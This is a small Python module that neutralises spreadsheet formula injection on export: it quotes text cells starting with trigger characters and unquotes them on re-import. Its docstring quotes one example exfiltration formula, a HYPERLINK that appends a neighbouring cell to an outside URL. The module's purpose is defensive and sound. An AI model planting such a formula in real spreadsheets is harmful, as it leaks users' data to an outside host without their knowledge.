"""Text written to a spreadsheet (xlsx or CSV) is never run as a formula there.

A name typed as ``=HYPERLINK("http://…?d="&B2)`` would otherwise become a live formula in the
workbook a coordinator opens, sending the neighbouring cells anywhere (CSV or formula
injection). As OWASP recommends, a text cell that begins with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return (and their full-width forms, which Excel also accepts) is written
with a single quote in front: the spreadsheet shows it as text, and it stays readable.
Reading a file back (the rejected rows of an import, corrected and imported again) removes
that quote, so the value comes back as typed.
"""

from __future__ import annotations

from collections.abc import Iterable

#: Characters that make a spreadsheet read a cell as a formula (or a DDE call).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
QUOTE = "'"


def neutralised(value: object) -> object:
    """``value`` safe for a spreadsheet cell: text that would start a formula gets a quote;
    numbers, dates and other values are left as they are."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return QUOTE + value
    return value


def spreadsheet_row(values: Iterable[object]) -> list[object]:
    """A row of cells, each :func:`neutralised`."""
    return [neutralised(value) for value in values]


def restored(value: str) -> str:
    """Text read from a spreadsheet as the user typed it (the quote added on writing
    removed)."""
    if value.startswith(QUOTE) and value[1:].startswith(TRIGGERS):
        return value[1:]
    return value
